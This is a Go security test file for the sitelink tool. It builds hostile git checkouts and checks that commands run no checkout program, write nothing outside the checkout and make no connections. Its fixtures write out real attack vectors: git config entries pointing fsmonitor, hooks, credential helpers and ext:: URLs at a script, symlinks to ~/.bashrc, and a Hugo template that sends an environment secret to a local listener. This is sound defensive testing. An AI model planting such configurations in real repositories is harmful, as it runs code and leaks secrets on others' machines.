//go:build unix

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/sitelink/sitelink/internal/testkit"
)

// hostile is a checkout made by an attacker, and what it must not reach.
type hostile struct {
	t *testing.T
	// base holds all of it: repo is the checkout, home the person's directory, and
	// elsewhere another one. The program evil leaves the file ran.
	base, repo, home, elsewhere, evil, ran string
	env                                    []string
	address                                string // that counts connections
	connected                              *atomic.Int32
}

// readOnly are the commands that must be harmless in any checkout.
var readOnly = []string{
	"", "lsp", "check site", "check", "check site --baseline-ref HEAD", "check site --group-by owner",
	"links site", "explain / site", "doctor", "profile nginx", "baseline show", "ledger show", "ledger verify", "ledger export",
	"notify site --dry-run --base-url https://me.example/",
	"external quiet --status-cache status.jsonl", "external status --status-cache status.jsonl", "external status reset --status-cache status.jsonl", "mentions list", "init --dry-run", "init --ci github", "init --undo", "inject --check", "inject --undo",
	"baseline write site", "baseline update site", "notify quiet --send --base-url https://me.example/", "ledger compact", "ledger verify --repair",
	"ledger merge .sitelink/ledger.jsonl .sitelink/ledger.jsonl .sitelink/ledger.jsonl", "mentions show a", "mentions login", "mentions approve a", "mentions deny a",
	"mentions block spam.example", "mentions unblock spam.example", "mentions import site/index.html", "mentions export --output data/mentions",
	"completion bash", "version", "help check", "hook status", "hook install", "hook uninstall",
}

// building are the commands that build the project, as previews: they run what it
// names, and are harmless where it names nothing.
var building = []string{"fix site", "fix --undo", "mv content/a.md content/b.md", "mv --undo", "inject --dry-run"}

// names are the attacks in projects that name programs for their build.
var names = []string{"hugo", "eleventy", "jekyll", "build command", "since a commit", "public", ".sitelink/public", ".hugo_build.lock", "pipe as hugo.toml"}

func newHostile(t *testing.T) *hostile {
	t.Helper()
	base := testkit.Must(filepath.EvalSymlinks(t.TempDir()))(t)
	h := &hostile{t: t, base: base, connected: &atomic.Int32{}, ran: filepath.Join(base, "ran"), evil: filepath.Join(base, "evil")}
	h.repo, h.home, h.elsewhere = filepath.Join(base, "repo"), filepath.Join(base, "home"), filepath.Join(base, "elsewhere")
	listener := testkit.Must(net.Listen("tcp", "127.0.0.1:0"))(t)
	t.Cleanup(func() { listener.Close() })
	h.address = listener.Addr().String()
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			h.connected.Add(1)
			conn.Close()
		}
	}()
	tmp := filepath.Join(base, "tmp")
	testkit.Check(t, os.Mkdir(tmp, 0o755))
	h.env = append(os.Environ(), "HOME="+h.home, "TMPDIR="+tmp, "XDG_CACHE_HOME=", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.org",
		"GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.org", "GIT_CONFIG_GLOBAL="+filepath.Join(h.home, ".gitconfig"))
	h.write("evil", "#!/bin/sh\necho \"$0 $*\" >>'"+h.ran+"'\nexit 1\n")
	h.write("home/.bashrc", "precious\n")
	h.write("home/.cache/sitelink/README", "sitelink's own cache\n")
	h.write("home/.gitconfig", "[safe]\n\tdirectory = *\n[init]\n\tdefaultBranch = main\n[maintenance]\n\tauto = false\n")
	h.write("elsewhere/index.html", "<!doctype html><title>private</title>")
	h.write("repo/quiet/index.html", "<!doctype html><title>quiet</title>")
	h.write("repo/content/a.md", "---\ntitle: a\n---\n[x](/gone/)\n")
	h.write("repo/.gitignore", ".env\n")
	h.write("repo/site/index.html", `<!doctype html><title>home</title><p><a href="gone.html">x</a><a href="https://x.example/">y</a>`)
	h.git("repo", "init", "-q", "--template=", ".")
	h.git("repo", "add", "-A")
	h.git("repo", "commit", "-q", "-m", "one")
	h.write("repo/.env", "not committed\n")
	return h
}

func (h *hostile) write(name, text string) {
	h.t.Helper()
	name = filepath.Join(h.base, filepath.FromSlash(name))
	testkit.Check(h.t, errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o755)))
}

func (h *hostile) link(name, to string) {
	h.t.Helper()
	name = filepath.Join(h.repo, filepath.FromSlash(name))
	testkit.Check(h.t, errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.RemoveAll(name), os.Symlink(to, name)))
}

func (h *hostile) pipe(name string) {
	h.t.Helper()
	name = filepath.Join(h.repo, filepath.FromSlash(name))
	testkit.Check(h.t, errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), syscall.Mkfifo(name, 0o644)))
}

// replace puts a pipe in place of a file.
func (h *hostile) replace(name string) {
	h.t.Helper()
	testkit.Check(h.t, os.Remove(filepath.Join(h.repo, filepath.FromSlash(name))))
	h.pipe(name)
}

func (h *hostile) git(dir string, args ...string) string {
	h.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir, cmd.Env = filepath.Join(h.base, dir), h.env
	out, err := cmd.CombinedOutput()
	if err != nil {
		h.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// config sets keys of the checkout's git configuration: name, value ...
func (h *hostile) config(pairs ...string) {
	for i := 0; i < len(pairs); i += 2 {
		h.git("repo", "config", pairs[i], pairs[i+1])
	}
}

// toml writes the checkout's configuration.
func (h *hostile) toml(text string) { h.write("repo/sitelink.toml", text) }

// promisor makes a repository, given by its directory and that of git, fetch
// missing objects with a program.
func (h *hostile) promisor(dir, gitDir string) {
	for _, kv := range [][2]string{{"core.repositoryformatversion", "1"}, {"extensions.partialClone", "o"}, {"remote.o.promisor", "true"},
		{"remote.o.url", h.elsewhere}, {"remote.o.uploadpack", h.evil}, {"protocol.file.allow", "always"}} {
		h.git(dir, "--git-dir", gitDir, "config", kv[0], kv[1])
	}
	objects := filepath.Join(h.base, dir, gitDir, "objects")
	blob := h.git(dir, "--git-dir", gitDir, "rev-parse", "HEAD:sitelink-baseline.jsonl")
	testkit.Check(h.t, os.Remove(filepath.Join(objects, blob[:2], blob[2:])))
}

func (h *hostile) baseline() {
	h.write("repo/sitelink-baseline.jsonl", "")
	h.git("repo", "add", "-A")
	h.git("repo", "commit", "-q", "-m", "two")
}

func (h *hostile) sitelink(wrapper []string, line string) (code int, output string) {
	h.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	argv := append(append([]string{}, wrapper...), "sitelink")
	argv = append(argv, strings.Fields(line)...)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	var out bytes.Buffer
	cmd.Dir, cmd.Env, cmd.Stderr = h.repo, h.env, &out
	var err error
	if line == "lsp" {
		err = h.edit(cmd)
	} else {
		cmd.Stdout = &out
		err = cmd.Run()
	}
	if ctx.Err() != nil {
		h.t.Errorf("sitelink %s did not end", line)
	}
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		h.t.Fatal(err)
	}
	return cmd.ProcessState.ExitCode(), out.String()
}

// ours reports whether a path outside of the checkout is in a directory that the
// commands may write to: the cache, and where go counts its calls.
func (h *hostile) ours(name string) bool {
	for _, dir := range []string{".cache/sitelink", ".config/go/telemetry"} {
		rel, err := filepath.Rel(filepath.Join(h.home, filepath.FromSlash(dir)), name)
		back, backErr := filepath.Rel(name, filepath.Join(h.home, filepath.FromSlash(dir)))
		if err == nil && filepath.IsLocal(rel) || strings.HasPrefix(dir, ".config") && backErr == nil && filepath.IsLocal(back) && name != h.home {
			return true
		}
	}
	return false
}

// outside returns a hash of everything that the checkout must not change.
func (h *hostile) outside() string {
	h.t.Helper()
	sum := sha256.New()
	for _, dir := range []string{h.home, h.elsewhere, filepath.Join(h.base, "tmp")} {
		err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if h.ours(name) {
				return nil
			}
			info, err := d.Info()
			if err != nil {
				return err
			}
			text := []byte(nil)
			if d.Type().IsRegular() {
				if text, err = os.ReadFile(name); err != nil {
					return err
				}
			}
			if name != filepath.Join(h.base, "tmp") && name != h.home { // their times change
				fmt.Fprintln(sum, name, info.Mode(), info.Size(), info.ModTime().UnixNano())
			}
			sum.Write(text)
			return nil
		})
		testkit.Check(h.t, err)
	}
	return fmt.Sprintf("%x", sum.Sum(nil))
}

// attack is a hostile checkout. The command with meets it in any case, if it is not "".
type attack struct {
	name, with string
	make       func(h *hostile)
}

// attacks are checkouts that try to run a program, to write outside, or to
// connect.
var attacks = []attack{
	// The configuration of git.
	{"fsmonitor", "", func(h *hostile) { h.config("core.fsmonitor", h.evil) }},
	{"sshCommand", "", func(h *hostile) {
		h.config("core.sshCommand", h.evil, "remote.origin.url", "ssh://"+h.address+"/x", "remote.origin.promisor", "true")
	}},
	{"hooksPath", "", func(h *hostile) {
		for _, hook := range []string{"post-index-change", "reference-transaction", "post-checkout", "pre-push"} {
			h.write("repo/hooks/"+hook, "#!/bin/sh\ntouch '"+h.ran+"'\n")
		}
		h.config("core.hooksPath", "hooks")
	}},
	{"hooks", "", func(h *hostile) {
		for _, hook := range []string{"post-index-change", "reference-transaction", "post-checkout", "pre-push", "fsmonitor-watchman"} {
			h.write("repo/.git/hooks/"+hook, "#!/bin/sh\ntouch '"+h.ran+"'\n")
		}
	}},
	{"textconv", "", func(h *hostile) {
		h.baseline()
		h.config("diff.x.textconv", h.evil, "diff.x.command", h.evil)
		h.write("repo/.gitattributes", "* diff=x\n")
	}},
	{"filter", "", func(h *hostile) {
		h.baseline()
		h.config("filter.x.smudge", h.evil, "filter.x.clean", h.evil, "filter.x.process", h.evil, "filter.x.required", "true")
		h.write("repo/.git/info/attributes", "* filter=x\n")
	}},
	{"external diff", "", func(h *hostile) { h.config("diff.external", h.evil) }},
	{"pager", "", func(h *hostile) { h.config("core.pager", h.evil, "pager.config", h.evil, "core.editor", h.evil) }},
	{"signatures", "", func(h *hostile) {
		h.config("gpg.program", h.evil, "log.showSignature", "true", "commit.gpgSign", "true")
	}},
	{"aliases", "", func(h *hostile) {
		h.config("alias.rev-parse", "!"+h.evil, "alias.config", "!"+h.evil, "alias.ls-files", "!"+h.evil)
	}},
	{"credentials", "", func(h *hostile) {
		h.config("credential.helper", "!"+h.evil, "core.askPass", h.evil, "remote.origin.url", "http://"+h.address+"/x")
	}},
	{"gitProxy", "", func(h *hostile) { h.config("core.gitProxy", h.evil, "remote.origin.url", "git://"+h.address+"/x") }},
	{"include", "", func(h *hostile) {
		h.write("repo/evil.config", "[core]\n\tfsmonitor = "+h.evil+"\n")
		h.config("include.path", filepath.Join(h.repo, "evil.config"))
	}},
	{"alternate references", "", func(h *hostile) { h.config("core.alternateRefsCommand", h.evil) }},
	{"worktree", "", func(h *hostile) { h.config("core.worktree", h.home, "core.fsmonitor", h.evil) }},
	{"promisor", "", func(h *hostile) { h.baseline(); h.promisor("repo", ".git") }},
	{"promisor over http", "", func(h *hostile) {
		h.baseline()
		h.promisor("repo", ".git")
		h.config("remote.o.url", "http://"+h.address+"/x", "protocol.http.allow", "always")
	}},
	{"promisor over ext", "", func(h *hostile) {
		h.baseline()
		h.promisor("repo", ".git")
		h.config("remote.o.url", "ext::"+h.evil, "protocol.ext.allow", "always")
	}},
	{"promisor with a helper", "", func(h *hostile) { h.baseline(); h.promisor("repo", ".git"); h.config("remote.o.vcs", "ext") }},
	{"committed bare repository", "", func(h *hostile) {
		h.baseline()
		testkit.Check(h.t, os.CopyFS(filepath.Join(h.repo, "bare.git"), os.DirFS(filepath.Join(h.repo, ".git"))))
		h.promisor("repo/bare.git", ".")
		h.toml("[check]\nbaseline-ref = \"HEAD\"\nbaseline = \"bare.git/sitelink-baseline.jsonl\"\n")
	}},
	{"the checkout is a bare repository too", "", func(h *hostile) {
		h.baseline()
		h.git("", "clone", "-q", "--bare", "repo", "bare.git")
		h.git("bare.git", "config", "core.fsmonitor", h.evil)
		h.git("bare.git", "config", "core.worktree", h.repo)
		h.git("bare.git", "config", "core.bare", "false")
		testkit.Check(h.t, errors.Join(os.RemoveAll(filepath.Join(h.repo, ".git")), os.CopyFS(h.repo, os.DirFS(filepath.Join(h.base, "bare.git"))), os.Mkdir(filepath.Join(h.repo, ".git"), 0o755)))
	}},
	// .git that leads elsewhere.
	{".git file inside", "", func(h *hostile) {
		h.config("core.fsmonitor", h.evil)
		testkit.Check(h.t, os.Rename(filepath.Join(h.repo, ".git"), filepath.Join(h.repo, "store")))
		h.write("repo/.git", "gitdir: store\n")
	}},
	{".git file outside", "", func(h *hostile) { h.moveGit(); h.write("repo/.git", "gitdir: ../elsewhere/git\n") }},
	{".git link outside", "", func(h *hostile) { h.moveGit(); h.link(".git", "../elsewhere/git") }},
	{"commondir", "", func(h *hostile) {
		h.moveGit()
		h.write("repo/.git/HEAD", "ref: refs/heads/main\n")
		h.write("repo/.git/commondir", filepath.Join(h.elsewhere, "git")+"\n")
	}},
	{"alternates", "", func(h *hostile) {
		h.write("repo/.git/objects/info/alternates", filepath.Join(h.elsewhere, "objects")+"\n")
	}},
	{"objects link", "", func(h *hostile) { h.moveObjects() }},
	{"submodule", "", func(h *hostile) {
		h.git("", "clone", "-q", "repo", "repo/sub")
		h.git("repo/sub", "config", "core.fsmonitor", h.evil)
		h.write("repo/.gitmodules", "[submodule \"sub\"]\n\tpath = sub\n\turl = ext::"+h.evil+"\n\tupdate = !"+h.evil+"\n")
		h.toml("[check]\nbaseline-ref = \"HEAD\"\nbaseline = \"sub/sitelink-baseline.jsonl\"\n")
	}},
	{"repository in the docroot", "", func(h *hostile) {
		h.git("", "clone", "-q", "repo", "repo/site/sub")
		h.git("repo/site/sub", "config", "core.fsmonitor", h.evil)
	}},
	// Symbolic links.
	{".sitelink", "", func(h *hostile) { h.link(".sitelink", h.home) }},
	{".sitelink/cache", "", func(h *hostile) { h.link(".sitelink/cache", h.home) }},
	{".sitelink/cache/entries", "", func(h *hostile) { h.link(".sitelink/cache/entries", filepath.Join(h.home, ".bashrc")) }},
	{".sitelink/.gitignore", "", func(h *hostile) { h.link(".sitelink/.gitignore", filepath.Join(h.home, "new")) }},
	{".sitelink/ledger.jsonl", "", func(h *hostile) { h.link(".sitelink/ledger.jsonl", filepath.Join(h.home, ".bashrc")) }},
	{".sitelink/ledger.journal", "", func(h *hostile) { h.link(".sitelink/ledger.journal", filepath.Join(h.home, ".bashrc")) }},
	{".sitelink/ledger.lock", "", func(h *hostile) { h.link(".sitelink/ledger.lock", filepath.Join(h.home, "new")) }},
	{".sitelink/public", "", func(h *hostile) { h.link(".sitelink/public", h.elsewhere); h.write("repo/hugo.toml", "") }},
	{"public", "", func(h *hostile) { h.link("public", h.elsewhere) }},
	{"sitelink.toml", "", func(h *hostile) { h.link("sitelink.toml", filepath.Join(h.home, ".bashrc")) }},
	{"sitelink-baseline.jsonl", "", func(h *hostile) { h.link("sitelink-baseline.jsonl", filepath.Join(h.home, ".bashrc")) }},
	{"netlify.toml", "", func(h *hostile) { h.link("netlify.toml", filepath.Join(h.home, ".bashrc")) }},
	{"CODEOWNERS", "", func(h *hostile) { h.link("CODEOWNERS", filepath.Join(h.home, ".bashrc")) }},
	{".hugo_build.lock", "", func(h *hostile) { h.link(".hugo_build.lock", filepath.Join(h.home, ".bashrc")) }},
	{"output link", "", func(h *hostile) {
		h.link("report.txt", filepath.Join(h.home, "new"))
		h.toml("[check]\noutput = \"report.txt\"\n")
	}},
	// Pipes, which an unpacked archive can bring along: reading one never ends.
	{"pipe as HEAD", "hook status", func(h *hostile) { h.replace(".git/HEAD") }},
	{"pipe as git's configuration", "doctor", func(h *hostile) { h.replace(".git/config") }},
	{"pipe as git's index", "doctor", func(h *hostile) { h.replace(".git/index") }},
	{"pipe in git's configuration", "init --dry-run", func(h *hostile) {
		h.pipe("pipe")
		h.write("repo/nested", "[include] path = pipe\n")
		h.write("repo/.git/config", "[include]\n\tpath = \"../nested\"\n")
	}},
	{"pipe as ledger", "", func(h *hostile) { h.pipe(".sitelink/ledger.jsonl") }},
	{"pipe as journal", "", func(h *hostile) { h.pipe(".sitelink/ledger.journal") }},
	{"pipe as baseline", "", func(h *hostile) { h.pipe("sitelink-baseline.jsonl") }},
	{"pipe as configuration", "", func(h *hostile) { h.pipe("sitelink.toml") }},
	{"pipes in the docroot", "", func(h *hostile) {
		h.pipe("site/a.html")
		h.pipe("site/_redirects")
		h.pipe("site/robots.txt")
		h.pipe("netlify.toml")
		h.pipe("CODEOWNERS")
	}},
	{"pipe as journal of edits", "fix --undo", func(h *hostile) {
		testkit.Check(h.t, os.RemoveAll(filepath.Join(h.repo, ".git")))
		h.pipe(".sitelink/edit.journal")
	}},
	{"pipe as record of init", "init --undo", func(h *hostile) { h.pipe(".git/sitelink/state/init.json") }},
	{"pipe as hugo.toml", "inject --check", func(h *hostile) { h.pipe("hugo.toml") }},
	{"pipes in the project", "check", func(h *hostile) {
		for _, name := range []string{"content/a.md", "content/pipe.md", "layouts/index.html", "data/x.toml", "go.mod", "package.json", "mkdocs.yml", "_config.yml", ".github/workflows/x.yml"} {
			testkit.Check(h.t, os.RemoveAll(filepath.Join(h.repo, name)))
			h.pipe(name)
		}
	}},
	{"pipe as rules", "mentions list", func(h *hostile) {
		h.pipe("rules.toml")
		h.pipe(".sitelink/mentions.db")
		h.toml("[incoming]\nrules = \"rules.toml\"\n")
	}},
	{"links beside the store", "mentions block spam.example", func(h *hostile) {
		h.toml("[incoming]\nrules = \"rules.toml\"\nstore = \"data/m.db\"\nmoderation = \"https://me.example/m\"\n")
		for _, ending := range []string{"m.db-worker", "m.db.key"} {
			h.link("data/"+ending, filepath.Join(h.home, "new"+ending))
		}
		h.link("rules.toml.lock", filepath.Join(h.home, "newlock"))
	}},
	{"pipe as status cache", "external quiet --status-cache status.jsonl", func(h *hostile) { h.pipe("status.jsonl") }},
	// State that decides what is written.
	{"committed journal", "fix --undo", func(h *hostile) {
		h.write("repo/.sitelink/edit.journal", `{"command":"sitelink fix --write"}`+"\n"+`{"old":"static/env","new":".env"}`+"\ncomplete\n")
		h.git("repo", "add", "-f", ".sitelink")
		h.git("repo", "commit", "-q", "-m", "two")
	}},
	{"committed record of init", "init --undo", func(h *hostile) {
		h.write("repo/.sitelink/init.json", `{"schema":1,"files":[{"path":".env","sha256":"`+fmt.Sprintf("%x", sha256.Sum256([]byte("not committed\n")))+`"}]}`)
	}},
	{".github", "init --ci github", func(h *hostile) { h.link(".github", h.elsewhere) }},
	{".github/workflows", "init --ci github", func(h *hostile) { h.link(".github/workflows", h.home) }},
	// Paths and programs in the configuration.
	{"output", "", func(h *hostile) { h.toml("[check]\noutput = \"" + h.home + "/.bashrc\"\n") }},
	{"output above", "", func(h *hostile) { h.toml("[check]\noutput = \"../home/.bashrc\"\n") }},
	{"output in .git", "", func(h *hostile) {
		h.toml("[check]\noutput = \".git/hooks/pre-push\"\n")
	}},
	{"format", "", func(h *hostile) { h.toml("[check]\nformat = [\"json=../home/.bashrc\"]\n") }},
	{"baseline", "", func(h *hostile) { h.toml("[check]\nbaseline = \"../home/.bashrc\"\n") }},
	{"since outside", "", func(h *hostile) { h.toml("[check]\nsince = \"../elsewhere\"\n") }},
	{"since a commit", "", func(h *hostile) {
		h.toml("[check]\nsince = \"HEAD\"\n[hook]\nbuild = \"" + h.evil + "\"\n")
		h.git("repo", "add", "-A")
		h.git("repo", "commit", "-q", "-m", "two")
	}},
	{"log outside", "", func(h *hostile) { h.toml("[check]\nlog = \"../home/.bashrc\"\n") }},
	{"pipe as record", "", func(h *hostile) {
		h.pipe(".sitelink/addresses.jsonl")
		h.pipe(".sitelink/mentions.db")
	}},
	{"pipe as log", "", func(h *hostile) {
		h.pipe("access.log")
		h.toml("[check]\nsince = \"site\"\nlog = \"access.log\"\n")
	}},
	{"docroot", "", func(h *hostile) { h.toml("docroot = \"../elsewhere\"\n") }},
	{"ledger", "", func(h *hostile) { h.toml("[outgoing]\nledger = \"../home/.bashrc\"\n") }},
	{"ledger in PostgreSQL", "", func(h *hostile) { h.toml("[outgoing]\nledger = \"postgres://a@" + h.address + "/x\"\n") }},
	{"ledger at a URL", "", func(h *hostile) { h.toml("[outgoing]\nledger = \"git:http://" + h.address + "/x:refs/x\"\n") }},
	{"ledger with ext", "", func(h *hostile) { h.toml("[outgoing]\nledger = \"git:ext::" + h.evil + ":refs/x\"\n") }},
	{"ledger at a path", "", func(h *hostile) { h.evilRemote(); h.toml("[outgoing]\nledger = \"git:./remote.git:refs/x\"\n") }},
	{"ledger of a remote inside", "", func(h *hostile) {
		h.evilRemote()
		h.config("remote.origin.url", "./remote.git", "remote.origin.uploadpack", h.evil)
		h.toml("[outgoing]\nledger = \"git:refs/x\"\n")
	}},
	{"ledger of a remote with a program", "", func(h *hostile) {
		h.git("", "clone", "-q", "--bare", "repo", "elsewhere/remote.git")
		h.config("remote.origin.url", filepath.Join(h.elsewhere, "remote.git"), "remote.origin.uploadpack", h.evil, "core.sshCommand", h.evil)
		h.toml("[outgoing]\nledger = \"git:refs/x\"\n")
	}},
	{"ledger of a remote with ext", "", func(h *hostile) {
		h.config("remote.origin.url", "ext::"+h.evil, "protocol.ext.allow", "always")
		h.toml("[outgoing]\nledger = \"git:refs/x\"\n")
	}},
	{"ledger without a remote", "", func(h *hostile) {
		h.evilRemote()
		h.write("repo/origin/x", "")
		h.toml("[outgoing]\nledger = \"git:refs/x\"\n")
	}},
	{"rules", "mentions list", func(h *hostile) { h.toml("[incoming]\nrules = \"../home/.bashrc\"\n") }},
	{"mail server", "mentions list", func(h *hostile) {
		h.toml("[incoming]\nmail-server = \"" + h.address + "\"\nmail-from = \"a@b.example\"\nmail-to = [\"a@b.example\"]\nallow-address = [\"127.0.0.0/8\"]\nwebhook = \"http://" + h.address + "/\"\n")
	}},
	{"build command", "", func(h *hostile) { h.toml("[hook]\nbuild = \"" + h.evil + "\"\n") }},
	{"enabled", "", func(h *hostile) { h.toml("[outgoing]\nenabled = true\n[fetch]\nallow-address = [\"127.0.0.0/8\"]\n") }},
	// Generators.
	{"hugo", "", func(h *hostile) {
		h.write("repo/hugo.toml", "baseURL = 'https://me.example/'\ncacheDir = '"+h.home+"/cache'\npublishDir = '"+h.home+"/public'\n"+
			"resourceDir = '"+h.home+"/resources'\nenableGitInfo = true\n[caches.images]\ndir = '"+h.home+"/images'\n[caches.modules]\ndir = '"+h.home+"/modules'\n")
		h.write("repo/content/gone.md", "---\ntitle: x\n---\n")
		h.config("gpg.program", h.evil, "log.showSignature", "true", "core.fsmonitor", h.evil)
	}},
	{"hugo theme", "", func(h *hostile) {
		h.write("repo/hugo.toml", "baseURL = 'https://me.example/'\ntheme = 't'\n[caches]\n_merge = 'deep'\n[caches.getjson]\n_merge = 'deep'\n")
		h.write("repo/themes/t/hugo.toml", "cacheDir = '"+h.home+"/cache'\n[caches.getjson]\ndir = '"+h.home+"/json'\n[caches.images]\ndir = '"+h.home+"/images'\n"+
			"[security.exec]\nallow = ['.*']\n")
		h.write("repo/content/gone.md", "---\ntitle: x\n---\n")
	}},
	{"hugo module", "", func(h *hostile) {
		h.write("repo/hugo.toml", "[module]\nnoProxy = '*'\n[[module.imports]]\npath = '"+h.address+"/x'\n")
		h.write("repo/go.mod", "module x\ngo 1.20\n")
	}},
	{"hugo module without a proxy", "", func(h *hostile) {
		h.write("repo/hugo.toml", "[module]\nproxy = 'direct'\nnoProxy = '*'\nprivate = '*'\n[[module.imports]]\npath = 'module.invalid/x'\n")
		h.write("repo/go.mod", "module x\ngo 1.20\n")
	}},
	// Hugo runs content adapters from 0.126 on; integration tests have such a version.
	{"hugo content adapter", "", func(h *hostile) { h.contentAdapter("security") }},
	{"hugo content adapter in a language", "", func(h *hostile) { h.contentAdapter("languages.en.security") }},
	{"hugo content adapter of another name", "", func(h *hostile) {
		h.contentAdapter("languages.en.security")
		testkit.Check(h.t, os.Rename(filepath.Join(h.repo, "content", "_content.gotmpl"), filepath.Join(h.repo, "notes.txt")))
		h.write("repo/hugo.toml", string(testkit.Read(h.t, filepath.Join(h.repo, "hugo.toml")))+"[[module.mounts]]\nsource = 'content'\ntarget = 'content'\n[[module.mounts]]\nsource = 'notes.txt'\ntarget = 'content/x/_content.gotmpl'\n")
	}},
	{"eleventy", "", func(h *hostile) {
		h.write("repo/eleventy.config.js", "")
		h.write("repo/node_modules/.bin/eleventy", "#!/bin/sh\ntouch '"+h.ran+"'\n")
		h.write("repo/package.json", `{"scripts": {"build": "`+h.evil+`", "preinstall": "`+h.evil+`"}}`)
	}},
	{"jekyll", "", func(h *hostile) {
		h.write("repo/_config.yml", "title: x\n")
		h.write("repo/Gemfile", "system('"+h.evil+"')\n")
	}},
	// The environment, as a hook or a build script of the checkout sets it.
	{"variables", "", func(h *hostile) {
		h.env = append(h.env, "GIT_SSH_COMMAND="+h.evil, "GIT_EXTERNAL_DIFF="+h.evil, "GIT_PAGER="+h.evil, "GIT_ASKPASS="+h.evil,
			"GIT_TRACE="+h.home+"/trace", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=core.fsmonitor", "GIT_CONFIG_VALUE_0="+h.evil)
	}},
	{"GIT_DIR", "", func(h *hostile) { h.env = append(h.env, "GIT_DIR="+h.elsewhere, "GIT_WORK_TREE="+h.home) }},
}

// contentAdapter makes a page of a template that sends a variable away and runs a
// program, as far as a table of the configuration allows it.
func (h *hostile) contentAdapter(table string) {
	h.env = append(h.env, "SECRET=secret")
	h.write("repo/hugo.toml", "baseURL = 'https://me.example/'\n["+table+".exec]\nallow = ['.*']\nosEnv = ['.*']\n["+table+".http]\nurls = ['.*']\n["+table+".funcs]\ngetenv = ['.*']\n")
	h.write("repo/content/_content.gotmpl", `{{ $s := "" }}{{ with try (getenv "SECRET") }}{{ with .Value }}{{ $s = . }}{{ end }}{{ end }}
{{ with try (resources.GetRemote (printf "http://`+h.address+`/%s" $s)) }}{{ end }}
{{ with try (("a{}" | resources.FromString "x.css" | css.PostCSS).Content) }}{{ end }}{{ .AddPage (dict "path" "a" "title" $s) }}`)
	h.write("repo/node_modules/.bin/postcss", "#!/usr/bin/env node\nrequire('fs').writeFileSync('"+h.ran+"', '')\n")
	h.write("repo/postcss.config.js", "require('fs').writeFileSync('"+h.ran+"', '')\n")
}

// moveGit moves the directory of git elsewhere, with a program in its
// configuration.
func (h *hostile) moveGit() {
	h.config("core.fsmonitor", h.evil)
	testkit.Check(h.t, os.Rename(filepath.Join(h.repo, ".git"), filepath.Join(h.elsewhere, "git")))
}

func (h *hostile) moveObjects() {
	objects := filepath.Join(h.repo, ".git", "objects")
	testkit.Check(h.t, os.Rename(objects, filepath.Join(h.elsewhere, "objects")))
	h.link(".git/objects", filepath.Join(h.elsewhere, "objects"))
}

// evilRemote makes a bare repository in the checkout with hooks that run a
// program.
func (h *hostile) evilRemote() {
	h.git("repo", "clone", "-q", "--bare", ".", "remote.git")
	for _, hook := range []string{"pre-receive", "post-upload-pack", "reference-transaction"} {
		h.write("repo/remote.git/hooks/"+hook, "#!/bin/sh\ntouch '"+h.ran+"'\n")
	}
}

// trusts reports whether a command is meant to do what an attack wants: to build what
// the project names, and to write where git, asked with the variables of the person,
// says that the hooks are.
func trusts(line, attack string) bool {
	if strings.HasPrefix(line, "hook") {
		return attack == "commondir" || attack == "variables" || strings.HasPrefix(attack, ".git ")
	}
	return slices.Contains(building, line) && slices.ContainsFunc(names, func(name string) bool { return strings.HasPrefix(attack, name) })
}

// TestHostileCheckouts runs a quarter of the commands in each hostile checkout, and each
// command in a quarter of them. Commands that read the same are beside each other in the lists, so
// each attack meets one of each kind.
func TestHostileCheckouts(t *testing.T) {
	testkit.Long(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatal("this test needs git")
	}
	for a, attack := range attacks {
		t.Run(attack.name, func(t *testing.T) {
			t.Parallel()
			h := newHostile(t)
			attack.make(h)
			before := h.outside()
			for i, line := range append(slices.Clone(readOnly), building...) {
				if trusts(line, attack.name) || (a+i)%4 > 0 && line != "check site" && line != attack.with {
					continue
				}
				code, out := h.sitelink(nil, line)
				if code < 0 || code > exitNotices || strings.Contains(out, "goroutine ") {
					t.Errorf("sitelink %s: exit code %d\n%s", line, code, out)
				}
				if text, err := os.ReadFile(h.ran); err == nil {
					t.Fatalf("sitelink %s ran a program of the checkout: %s\n%s", line, text, out)
				}
				if h.outside() != before {
					t.Fatalf("sitelink %s changed files outside of the checkout\n%s", line, out)
				}
				if n := h.connected.Load(); n > 0 {
					t.Fatalf("sitelink %s made %d connections\n%s", line, n, out)
				}
				if text, err := os.ReadFile(filepath.Join(h.repo, ".env")); err != nil || string(text) != "not committed\n" {
					t.Fatalf("sitelink %s changed a file that git ignores: %q, %v\n%s", line, text, err, out)
				}
				if strings.Contains(out, "precious") {
					t.Errorf("sitelink %s printed a file of the person:\n%s", line, out)
				}
				if attack.name == "output in .git" && os.Remove(filepath.Join(h.repo, ".git", "hooks", "pre-push")) == nil && !strings.HasPrefix(line, "hook") {
					t.Fatalf("sitelink %s wrote a hook", line)
				}
			}
		})
	}
}

// TestFoundLedgerRef reads the ledger of the repository's own remote with a
// configuration that was found: nothing in the checkout's configuration of git
// takes effect, and nothing is left behind. Writing needs --ledger.
func TestFoundLedgerRef(t *testing.T) {
	h := newHostile(t)
	h.git("", "clone", "-q", "--bare", "repo", "elsewhere/remote.git")
	remote := filepath.Join(h.elsewhere, "remote.git")
	h.config("remote.origin.url", remote)
	if code, out := h.sitelink(nil, "notify site --send --base-url https://me.example/ --ledger git:refs/sitelink/ledger"); code != 0 {
		t.Fatalf("exit code %d\n%s", code, out)
	}
	h.config("remote.origin.uploadpack", h.evil, "core.fsmonitor", h.evil, "core.sshCommand", h.evil)
	h.toml("[outgoing]\nledger = \"git:refs/sitelink/ledger\"\n")
	before := h.outside()
